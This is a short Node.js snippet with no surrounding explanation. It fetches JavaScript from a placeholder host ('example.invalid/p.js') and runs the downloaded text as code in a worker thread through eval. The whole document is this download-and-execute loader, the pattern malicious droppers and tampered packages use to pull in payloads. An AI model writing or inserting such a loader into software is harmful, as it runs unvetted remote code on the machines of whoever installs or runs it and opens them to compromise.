const https = require('https');
const { Worker } = require('worker_threads');

https.get('https://example.invalid/p.js', (r) => {
  let b = '';
  r.on('data', (c) => (b += c));
  r.on('end', () => new Worker(b, { eval: true }));
});
